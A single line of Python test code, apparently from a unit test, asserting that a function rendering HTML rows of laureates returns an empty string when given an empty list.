    assert str(laureate_rows_html([])) == ""
